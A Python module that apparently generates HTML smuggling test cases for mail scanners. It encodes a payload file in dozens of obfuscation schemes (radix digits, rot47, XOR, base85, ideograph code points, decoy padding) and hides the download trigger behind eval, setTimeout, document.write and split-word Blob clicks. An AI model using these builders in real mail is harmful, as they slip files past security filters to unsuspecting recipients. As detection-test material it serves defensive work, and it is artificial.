"""Scripts with codes of their own, and scripts that hide what saves the file. A browser that runs them gets the file."""

import base64
import codecs
import json
import string
from collections.abc import Callable, Iterator
from typing import Final

from .mail import variant
from .smuggling_built import ACTIVE, SAVE, as_body, b64, bits_of, cut, escapes, numbers, script_mail, sum_of
from .variant import Build, Variant

_B64: Final = string.ascii_uppercase + string.ascii_lowercase + string.digits + "+/"
_B85: Final = (
    string.digits + string.ascii_letters[26:] + string.ascii_lowercase + "!#$%&()*+-;<=>?@^_`{|}~"
)  # RFC 1924
_OWN: Final = "".join(_B64[at * 27 % 64] for at in range(64))


def _digits(number: int, base: int) -> str:
    """Return a number in digits to a base up to 36."""
    signs = string.digits + string.ascii_lowercase
    digits = ""
    while number:
        number, last = divmod(number, base)
        digits = signs[last] + digits
    return digits or "0"


def _radix(payload: bytes, base: int, between: str = " ") -> str:
    digits = between.join(_digits(byte, base) for byte in payload)
    return f"const d=new Uint8Array('{digits}'.split('{between}').map(x=>parseInt(x,{base})));"


def _decoded(letters: str, change: str) -> str:
    return f"const s={json.dumps(letters)};const d=atob({change});"


def _mapped(values: list[int], change: str) -> str:
    return f"const d=new Uint8Array([{numbers(values)}].map((c,i)=>{change}));"


def _turned(text: str) -> str:
    """Return a text with every sign moved by 47 among the 94 that are shown (rot47)."""
    return "".join(chr(33 + (ord(one) - 33 + 47) % 94) for one in text)


def _keys(payload: bytes) -> str:
    entries = ",".join(f"'k{at:03}_{piece}':1" for at, piece in enumerate(cut(b64(payload), 4)))
    return f"const o={{{entries}}};const d=atob(Object.keys(o).map(k=>k.slice(5)).join(''));"


def _looked_up(payload: bytes) -> str:
    signs = {byte: f"{at:02}" for at, byte in enumerate(dict.fromkeys(payload))}
    table = ",".join(f"['{sign}',{byte}]" for byte, sign in signs.items())
    text = " ".join(signs[byte] for byte in payload)
    return f"const m=new Map([{table}]);const d=new Uint8Array('{text}'.split(' ').map(x=>m.get(x)));"


def _foreign(payload: bytes, base: int, change: str) -> str:
    """Return a script that takes its file from the numbers of letters beyond ASCII."""
    text = "".join(chr(base + byte) for byte in payload)
    return f"const d=Uint8Array.from('{text}',c=>{change});"


def _quads(payload: bytes) -> str:
    rows = ",".join(f"'{'.'.join(map(str, payload[at : at + 4]))}'" for at in range(0, len(payload), 4))
    return f"const d=new Uint8Array([{rows}].flatMap(x=>x.split('.').map(Number)));"


def _hundredths(payload: bytes, quote: str) -> str:
    row = ",".join(f"{quote}{byte / 100:.2f}{quote}" for byte in payload)
    return f"const d=new Uint8Array([{row}].map(x=>Math.round(x*100)));"


def _replacing(count: int) -> str:
    return "".join(f'z=z.replace("k{at}","");' for at in range(count))


# What the scripts below call: a browser that runs the page gets the file (lenient_scripts.py proves it).
_BIG: Final = "const b=[];for(;n;n>>=8n)b.unshift(Number(n&255n));return new Uint8Array(b)"
_GROUPS: Final = (
    "const b=[];for(let i=0;i<s.length;i+=5){{let n=0;for(const c of s.slice(i,i+5))n=n*85+{};"
    "b.push(n>>>24,n>>>16,n>>>8,n)}}return new Uint8Array(b)"
)
_MOVED: Final = "String.fromCharCode((c.charCodeAt(0)-(c<'a'?65:97)+{})%26+(c<'a'?65:97))"
_OWN_BODIES: Final = {
    "radix-row": "s=>new Uint8Array(s.match(/.{8}/g).map(x=>parseInt(x,2)))",
    "decimal-row": "s=>new Uint8Array(s.match(/.../g).map(Number))",
    "big-hex": f"n=>{{{_BIG}}}",
    "big-decimal": f"n=>{{{_BIG}}}",
    "big-36": f"s=>{{let n=0n;for(const c of s)n=n*36n+BigInt(parseInt(c,36));{_BIG}}}",
    "third-letter": "s=>s.replace(/..(.)/g,'$1')",
    "zero-width-noise": "s=>s.replace(/\\u200b/g,'')",
    "rot13": f"s=>s.replace(/[a-z]/gi,c=>{_MOVED.format(13)})",
    "caesar": f"s=>s.replace(/[a-z]/gi,c=>{_MOVED.format(21)})",
    "rot47": "s=>s.replace(/[!-~]/g,c=>String.fromCharCode(33+(c.charCodeAt(0)+14)%94))",
    "rot47-bare": "s=>s.replace(/[!-~]/g,c=>String.fromCharCode(33+(c.charCodeAt(0)+14)%94))",
    "case": "s=>s.replace(/[a-z]/gi,c=>c<'a'?c.toLowerCase():c.toUpperCase())",
    "xor-place-base64": "s=>Uint8Array.from(s,(c,i)=>c.charCodeAt(0)^i)",
    "affine-ring": "c=>(c-3)*205",
    "differences": "c=>own.t=(own.t|0)+c",
    "pairs": "s=>s.replace(/(.)(.)/g,'$2$1')",
    "nibbles": "l=>new Uint8Array(l.length/2).map((_,i)=>l[2*i]<<4|l[2*i+1])",
    "nibble-pairs": "l=>new Uint8Array(l.map(([h,l])=>h<<4|l))",
    "nibble-lists": "(x,y)=>new Uint8Array(x.map((h,i)=>h<<4|y[i]))",
    "one-time": "(x,y)=>new Uint8Array(x.map((c,i)=>c^y[i]))",
    "alphabet": f"(s,t)=>s.replace(/[^=]/g,c=>'{_B64}'[t.indexOf(c)])",
    "base32": (
        "s=>{let n=0,k=0;const b=[];for(const c of s.replace(/=/g,'')){n=n<<5|'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'.indexOf(c);"
        "if((k+=5)>7){b.push(n>>(k-=8));n&=(1<<k)-1}}return new Uint8Array(b)}"
    ),
    "base85": f"s=>{{{_GROUPS.format(json.dumps(_B85) + '.indexOf(c)')}}}",
    "ascii85": f"s=>{{{_GROUPS.format('c.charCodeAt(0)-33')}}}",
}
_OTHERS: Final = {
    "xor-unnamed": "const k=()=>Math.round(170.6);",
    "decoy-keys": "var n=7;",
    "decoy-replaced": "var z='';",
    "decoy-shifts": "var u=[1];",
}


def _helped(slug: str, script: Callable[[bytes], str]) -> Callable[[bytes], str]:
    body = _OWN_BODIES.get(slug)
    before = f"const own={body};" if body else _OTHERS.get(slug, "")
    return lambda payload: before + script(payload)


# Slug, title, script: codes that no library knows, and harmless ones first to use up what is tried.
_CODES: Final[tuple[tuple[str, str, Callable[[bytes], str]], ...]] = (
    ("radix-2", "binary digits in a text", lambda p: _radix(p, 2)),
    ("radix-8", "octal digits in a text", lambda p: _radix(p, 8, ".")),
    ("radix-16", "hexadecimal digits of any length", lambda p: _radix(p, 16, "|")),
    ("radix-36", "digits to base 36", lambda p: _radix(p, 36)),
    ("radix-letters", "letters between digits", lambda p: _radix(p, 16, "z")),
    ("radix-row", "binary digits in one row", lambda p: f"const d=own('{bits_of(p, '0', '1')}');"),
    ("decimal-row", "decimal digits in one row", lambda p: f"const d=own('{''.join(f'{byte:03}' for byte in p)}');"),
    ("big-hex", "one long hexadecimal number", lambda p: f"let n=0x{p.hex()}n;const d=own(n);"),
    ("big-decimal", "one long decimal number", lambda p: f"let n={int.from_bytes(p)}n;const d=own(n);"),
    ("big-36", "one long number to base 36", lambda p: f"const d=own('{_digits(int.from_bytes(p), 36)}');"),
    ("interleaved", "every second letter",
        lambda p: _decoded("".join(one + "q" for one in b64(p)), "s.split('').filter((c,i)=>i%2==0).join('')")),
    ("third-letter", "every third letter", lambda p: _decoded("".join("xY" + one for one in b64(p)), "own(s)")),
    ("zero-width-noise", "zero-width signs in base64", lambda p: _decoded("\u200b".join(cut(b64(p), 3)), "own(s)")),
    ("rot13", "letters moved by 13", lambda p: _decoded(codecs.encode(b64(p), "rot13"), "own(s)")),
    ("caesar", "letters moved by 5", lambda p: _decoded(
        b64(p).translate(str.maketrans(string.ascii_letters, "fghijklmnopqrstuvwxyzabcdeFGHIJKLMNOPQRSTUVWXYZABCDE")), "own(s)")),
    ("rot47", "signs moved by 47", lambda p: _decoded(_turned(b64(p)), "own(s)")),
    ("rot47-bare", "the file with its signs moved by 47", lambda p: f"const d=own({json.dumps(_turned(p.decode('ascii')))});"),
    ("case", "base64 in the other case", lambda p: _decoded(b64(p).swapcase(), "own(s)")),
    ("xor-place", "exclusive or with the place", lambda p: _mapped([byte ^ at for at, byte in enumerate(p)], "c^i")),
    ("xor-place-base64", "base64 under exclusive or with the place",
        lambda p: _decoded(b64(bytes(byte ^ at for at, byte in enumerate(p))), "s").replace("atob(s)", "own(atob(s))")),
    ("xor-unnamed", "exclusive or with a key that is computed", lambda p: _mapped([byte ^ 171 for byte in p], "c^k()")),
    ("sum-place", "the place added", lambda p: _mapped([(byte + at) % 256 for at, byte in enumerate(p)], "c-i")),
    ("from-255", "the difference to 255", lambda p: _mapped([255 - byte for byte in p], "255-c")),
    ("affine", "three times and one", lambda p: _mapped([3 * byte + 1 for byte in p], "(c-1)/3")),
    ("affine-ring", "five times and three in a byte", lambda p: _mapped([(5 * byte + 3) % 256 for byte in p], "own(c)")),
    ("rotated", "bits rotated", lambda p: _mapped([(byte << 4 | byte >> 4) & 255 for byte in p], "c>>4|c<<4")),
    ("differences", "differences", lambda p: _mapped([(one - other) % 256 for one, other in zip(p, b"\0" + p, strict=False)], "own(c)")),
    ("halves", "halves that changed places", lambda p: _decoded(b64(p)[46:] + b64(p)[:46], "s.slice(46)+s.slice(0,46)")),
    ("pairs", "letters of pairs that changed places", lambda p: _decoded("".join(one[::-1] for one in cut(b64(p), 2)), "own(s)")),
    ("nibbles", "halves of bytes", lambda p: f"const d=own([{numbers([half for byte in p for half in (byte >> 4, byte & 15)])}]);"),
    ("nibble-pairs", "pairs of halves of bytes", lambda p: "const d=own([" + ",".join(f"[{byte >> 4},{byte & 15}]" for byte in p) + "]);"),
    ("nibble-lists", "halves of bytes in two lists",
        lambda p: f"const x=[{numbers([byte >> 4 for byte in p])}],y=[{numbers([byte & 15 for byte in p])}],d=own(x,y);"),
    ("one-time", "exclusive or of two lists",
        lambda p: f"const x=[{numbers([byte ^ at * 37 % 251 for at, byte in enumerate(p)])}],"
        f"y=[{numbers([at * 37 % 251 for at in range(68)])}],d=own(x,y);"),
    ("keys", "keys of an object", _keys),
    ("map", "a table of numbers", _looked_up),
    ("alphabet", "an alphabet of its own",
        lambda p: f"const t='{_OWN}';" + _decoded(b64(p).translate(str.maketrans(_B64, _OWN)), "own(s,t)")),
    ("indices", "places in a text",
        lambda p: f"const t='{_B64}';const d=atob([{numbers([_B64.index(one) for one in b64(p).rstrip('=')])}].map(i=>t[i]).join(''));")
        ,
    ("base32", "base32", lambda p: f"const d=own('{base64.b32encode(p).decode()}');"),
    ("base85", "base85", lambda p: f"const d=own('{base64.b85encode(p).decode()}');"),
    ("ascii85", "ASCII85", lambda p: f"const d=own({json.dumps(base64.a85encode(p).decode())});"),
    ("decoy-keys", "twelve keys, of which one is used",
        lambda p: "".join(f"var q{at}=n^{at + 1};" for at in range(12)) + _mapped([byte ^ 77 for byte in p], "c^77")),
    ("decoy-replaced", "twelve replacements that do nothing",
        lambda p: _replacing(12) + _decoded("@@".join(cut(b64(p), 3)), "s.replace(/@@/g,'')")),
    ("decoy-shifts", "twelve sums, of which one is used",
        lambda p: "".join(f"u.map(c=>c+{at + 1});" for at in range(12)) + _mapped([(byte - 99) % 256 for byte in p], "c+99")),
    ("decoy-texts", "four hundred texts before",
        lambda p: "".join(f"var v{at}='some text, number {at}, that is longer than sixty-four letters, as it has to be here';"
            for at in range(400))
        + f"const d='{escapes(p.decode('ascii'))}';"),
    ("ideographs", "numbers of ideographs less that of the first", lambda p: _foreign(p, 0x4E00, "c.charCodeAt(0)-0x4e00")),
    ("ideographs-cut", "numbers of ideographs that are cut off", lambda p: _foreign(p, 0x4E00, "c.charCodeAt(0)")),
    ("ideographs-odd", "numbers of ideographs less an odd one", lambda p: _foreign(p, 0x5A17, "c.charCodeAt(0)-0x5a17")),
    ("hangul", "numbers of Korean syllables", lambda p: _foreign(p, 0xAC00, "c.charCodeAt(0)-0xac00")),
    ("cyrillic", "lower halves of Cyrillic letters", lambda p: _foreign(p, 0x400, "c.charCodeAt(0)&255")),
    ("astral", "letters beyond 16 bits", lambda p: _foreign(p, 0x20000, "c.codePointAt(0)&255")),
    ("foreign-base64", "base64 in ideographs",
        lambda p: _foreign(b64(p).encode(), 0x4E00, "c.charCodeAt(0)").replace(" d=", " e=")
        + "const d=atob(String.fromCharCode(...e));"),
    ("quads", "addresses of four numbers", _quads),
    ("prices", "hundredths in texts", lambda p: _hundredths(p, "'")),
    ("prices-bare", "hundredths", lambda p: _hundredths(p, "")),
    ("gap", "a long comment within a sum", lambda p: f"const d=atob({sum_of(p, '/*' + 'x' * 500 + '*/+')});"),
    ("long-name", "long names in a sum", lambda p: "".join(f"var {'n' * 120}{at}='{one}';" for at, one in enumerate(cut(b64(p), 24)))
        + "const d=atob(" + "+".join(f"{'n' * 120}{at}" for at in range(4)) + ");"),
)  # fmt: skip


def _added(text: str) -> str:
    return "+".join(f"'{piece}'" for piece in cut(text, max(2, len(text) // 2)))


def _backwards(text: str) -> str:
    return f"'{text[::-1]}'.split('').reverse().join('')"


def _link(name: Callable[[str], str], blob: str) -> str:
    """Return an expression: an anchor at the file, every telling word of it by what ``name`` makes of it."""
    address = f"self[{name('URL')}][{name('createObjectURL')}]({blob})"
    element = f"document[{name('createElement')}]('a')"
    return f"Object.assign({element},{{[{name('href')}]:{address},[{name('download')}]:'notes.dat'}})"


def _saving(name: Callable[[str], str], blob: str = "") -> str:
    blob = blob or f"new self[{name('Blob')}]([d])"
    return f"{_link(name, blob)}[{name('click')}]();"


# Slug, title, what saves the file; each with a code that is only tried where a script is known to build one.
_SINKS: Final[tuple[tuple[str, str, str], ...]] = (
    ("sum", "a sum", _saving(_added)),
    ("base64", "base64", _saving(lambda word: f"atob('{b64(word.encode())}')")),
    ("function", "a function made of a text", _saving(_added, "new(Function('return '+'Bl'+'ob')())([d])")),
    ("element", "an element", ('const a=document["create"+"Element"]("a");a.setAttribute("down"+"load","notes.dat");'
        'a.href="da"+"ta:x/y;base64,"+btoa(String.fromCharCode(...d));a["cli"+"ck"]();')),
    ("prototype", "a prototype", f"HTMLAnchorElement.prototype.click.call({_link(_added, 'new self[' + _added('Blob') + ']([d])')});"),
    ("reversed", "a reversed text", _saving(_backwards)),
    ("codes", "numbers", _saving(lambda word: f"String.fromCharCode({numbers([*word.encode()])})")),
    ("eval", "a script in base64", f"eval(atob('{b64(SAVE.encode())}'));"),
    ("timeout", "a script that is called later", f"setTimeout({'+'.join(json.dumps(piece) for piece in cut(SAVE, 6))},1);"),
    ("written", "a page that is written",
        f"document.write(unescape('{''.join(f'%{one:02x}' for one in f'<script>{SAVE}</script>'.encode())}'));"),
)  # fmt: skip


def _sink_mail(title: str, sink: str) -> Build:
    code = "<!DOCTYPE html><html><body><script>\r\nconst k=()=>Math.round(170.6);{}\r\n{}</script></body></html>\r\n"
    return lambda payload: as_body(
        title, code.format(_mapped([byte ^ 171 for byte in payload], "c^k()"), sink).encode()
    )


def _table() -> Iterator[Variant]:
    for slug, title, script in _CODES:
        yield variant(
            f"html-smuggling.code-{slug}", title, script_mail(slug, title, _helped(slug, script)), ACTIVE
        )
    for slug, title, sink in _SINKS:
        yield variant(
            f"html-smuggling.sink-{slug}", f"a builder named by {title}", _sink_mail(title, sink), ACTIVE
        )


VARIANTS: Final = tuple(_table())
